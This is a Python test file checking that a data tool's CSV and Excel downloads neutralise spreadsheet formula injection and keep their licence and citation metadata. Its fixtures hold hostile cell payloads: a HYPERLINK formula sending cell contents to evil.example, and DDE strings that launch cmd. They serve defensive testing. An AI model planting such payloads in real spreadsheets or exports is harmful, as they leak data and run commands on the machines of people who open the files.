"""Safe downloads (issue 13): CSV and Excel files a person opens in a spreadsheet never run a formula that
came with the data, numbers stay numbers, and a workbook carries its licence and citation.

The data are an SDMX-CSV message a hostile publisher could send (codes that are formulas, negative and
decimal values), loaded with `imdx load sdmx`, then downloaded the ways a user would: the API's CSV,
SDMX-CSV, the portal's /explore.xlsx (over HTTP from the app `imdx serve` runs) and `imdx query`."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile

import pandas as pd
import pyarrow as pa
import pytest
from openpyxl import load_workbook

from imdx.exports import neutralise, safe_frame, safe_table
from tests.bombs import REPO
from tests.served import served

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
MESSAGE = "DATAFLOW,REF_AREA,SERIES,TIME_PERIOD,OBS_VALUE\n" + "".join(
    f'XX:NETMIG(1.0),{area},"{code.replace(chr(34), chr(34) * 2)}",2020,{value}\n'
    for area, code, value in [("DEU", HYPERLINK, -5000), ("FRA", HOSTILE[1], 1200), ("ITA", HOSTILE[2], -12.5),
                              ("ESP", HOSTILE[3], 7), ("PRT", HOSTILE[4], 3), ("POL", "-17", -1),
                              ("AUT", "Plain text", 0.25)])


def test_the_owasp_rule():
    for text in HOSTILE + ["=1+1", "-", "@", "\rx", "-2+3", "+1-2"]:
        assert neutralise(text) == "'" + text
    for text in ["-12.5", "+7", "-1e5", "Germany", "", "'quoted", "a=b", " =1+1"]:
        assert neutralise(text) == text
    table = pa.table({"code": pa.array(["=1+1", "-3", "x", None]), "value": pa.array([-1.5, -2.0, 3.0, None]),
                      "dict": pa.array(["@a", "b", "@a", "b"]).dictionary_encode()})
    safe = safe_table(table)
    assert safe.column("code").to_pylist() == ["'=1+1", "-3", "x", None]
    assert safe.column("value").to_pylist() == [-1.5, -2.0, 3.0, None]
    assert safe.schema.field("value").type == pa.float64()
    assert safe.column("dict").to_pylist() == ["'@a", "b", "'@a", "b"]
    frame = safe_frame(pd.DataFrame({"code": ["=1+1", "-3", None], "value": [-1.5, -2.0, 3.0],
                                     "cat": pd.Categorical(["+x", "y", "+x"])}))
    assert frame["code"].tolist()[:2] == ["'=1+1", "-3"] and pd.isna(frame["code"].iloc[2])
    assert frame["value"].tolist() == [-1.5, -2.0, 3.0] and list(frame["cat"]) == ["'+x", "y", "'+x"]


@pytest.fixture(scope="module")
def store(tmp_path_factory, mirror):
    """A store holding the hostile message (areas from the mirror's M49 files)."""
    folder = tmp_path_factory.mktemp("exports")
    message = folder / "hostile.csv"
    message.write_text(MESSAGE)
    db = folder / "store.duckdb"
    done = subprocess.run([sys.executable, "-m", "imdx.cli", "load", "sdmx", "--file", str(message), "--mirror",
                           str(mirror), "--db", str(db)], capture_output=True, text=True, timeout=300, check=False,
                          env={**os.environ, "PYTHONPATH": str(REPO), "IMDX_CACHE": str(folder / "c")})
    assert done.returncode == 0, done.stderr
    assert "loaded as dataflow sdmx_xx_netmig" in done.stdout, done.stdout
    return db


@pytest.fixture(scope="module")
def http(store):
    """The app `imdx serve` runs (API, SDMX and portal), over HTTP on a free loopback port."""
    with served(store) as client:
        yield client


def _check_csv_cells(rows: list[dict], code: str, value: str) -> None:
    by_area = {r["REF_AREA"] if "REF_AREA" in r else r["ref_area"]: r for r in rows}
    assert by_area["DEU"][code] == "'" + HYPERLINK
    for area, text in zip(["FRA", "ITA", "ESP", "PRT"], HOSTILE[1:]):
        assert by_area[area][code] == "'" + text
    assert by_area["POL"][code] == "-17" and by_area["AUT"][code] == "Plain text"  # a number is not a formula
    assert float(by_area["DEU"][value]) == -5000 and float(by_area["ITA"][value]) == -12.5  # numbers as numbers
    assert not by_area["DEU"][value].startswith("'")


def test_api_csv(http):
    answer = http.get("/api/v1/data/sdmx_xx_netmig", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    _check_csv_cells(rows, "series", "value")
    for row in rows:  # no cell anywhere starts like a formula, whatever the column
        assert not any(v and v[0] in "=+@\t\r" for v in row.values()), row


def test_sdmx_csv(http):
    answer = http.get("/sdmx/data/sdmx_xx_netmig/all", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    _check_csv_cells(list(csv.DictReader(io.StringIO(answer.text))), "SERIES", "OBS_VALUE")


def test_imdx_query_csv(store, tmp_path):
    out = tmp_path / "q.csv"
    done = subprocess.run([sys.executable, "-m", "imdx.cli", "query", "sdmx_xx_netmig", "--format", "csv",
                           "--output", str(out), "--db", str(store)], capture_output=True, text=True, timeout=120,
                          check=False, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 0, done.stderr
    _check_csv_cells(list(csv.DictReader(out.open())), "series", "value")


def test_explore_xlsx_has_no_live_formula_and_carries_licence_and_citation(http, tmp_path):
    answer = http.get("/explore.xlsx", params={"dataflow": "sdmx_xx_netmig"})
    assert answer.status_code == 200, answer.text[:500]
    path = tmp_path / "explore.xlsx"
    path.write_bytes(answer.content)
    with zipfile.ZipFile(path) as archive:  # no formula anywhere in the file
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(path)
    data = book["data"]
    header = [c.value for c in data[1]]
    cells = {row[header.index("ref_area")].value: row for row in data.iter_rows(min_row=2)}
    link = cells["DEU"][header.index("series")]
    assert link.value == HYPERLINK and link.data_type == "s"  # the text as published, as text
    assert all(c.data_type != "f" for row in data.iter_rows() for c in row)
    value = cells["ITA"][header.index("value")]
    assert value.value == -12.5 and value.data_type == "n"
    licence = {row[0].value: row[1].value for row in book["licence"].iter_rows()}
    assert "as published by XX" in licence["licence"] and "edition" in licence["cite as"]
    assert licence["data from"].startswith("/api/v1/data/sdmx_xx_netmig")
    assert "as published by XX" in book.properties.subject and "imdx" in book.properties.description
    assert {p.name for p in book.custom_doc_props.props} >= {"Licence", "Citation"}
